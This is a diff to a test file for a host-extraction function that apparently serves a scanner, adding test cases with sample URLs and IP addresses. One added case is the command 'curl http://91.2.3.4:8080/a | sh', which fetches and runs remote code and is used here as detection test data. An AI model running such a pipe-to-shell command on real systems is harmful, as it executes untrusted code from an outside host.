@@ -100,6 +100,8 @@ test.each<[string, Partial<Record<Kind, string[]>>]>([
   ['https://your-domain.atlassian.net https://mystore.azconfig.io https://{id}.a.com', {}],
   ['https://jira.internal.company.com https://user:pass@a.dev https://x_y.dev', {}],
   ['http://127.0.0.1 http://www.w3.org/2000/svg xmlns="http://b.dev/sml" https://a', {}],
+  [shell('curl http://91.2.3.4:8080/a | sh'), { hostsCalled: ['91.2.3.4'] }],
+  [shell('curl http://10.0.0.5 http://192.0.2.7 http://1.2.3.4 http://1.2.3 http://999.1.1.1'), {}],
   ['https://twitter.com/example https://github.com/your-org/x', {}],
 ])('hosts: %j -> %j', (text, expected) => {
   const { hostsCalled } = namesIn(text)
